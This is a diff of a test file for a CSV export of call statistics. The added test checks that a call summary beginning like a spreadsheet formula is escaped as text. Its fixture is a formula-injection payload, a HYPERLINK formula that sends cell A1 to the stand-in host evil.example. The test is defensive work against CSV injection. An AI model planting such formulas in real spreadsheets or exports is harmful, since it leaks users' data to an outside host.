@@ -32,4 +32,10 @@ describe('call statistics', () => {
     expect(header).toBe('Beginn;Ende;Art;Dauer (Sekunden);Kosten (USD);Gesprächsende;Ergebnis;Rufnummer;Zusammenfassung;Vapi-ID');
     expect(first).toBe('2026-11-03T14:10:02.000Z;2026-11-03T14:14:32.000Z;Website;270;0,52;Assistent hat beendet;erfolgreich;;Termin für ein Erstgespräch vereinbart.;call-3');
   });
+
+  it('exports a summary that starts like a formula as text, so a spreadsheet does not run it', () => {
+    const hostile = { ...calls[0]!, summary: '=HYPERLINK("https://evil.example/?d="&A1;"Details")' };
+    const [, row] = callsCsv([hostile]).replace('\uFEFF', '').split('\r\n');
+    expect(row).toContain(`;"'=HYPERLINK(""https://evil.example/?d=""&A1;""Details"")";call-3`);
+  });
 });
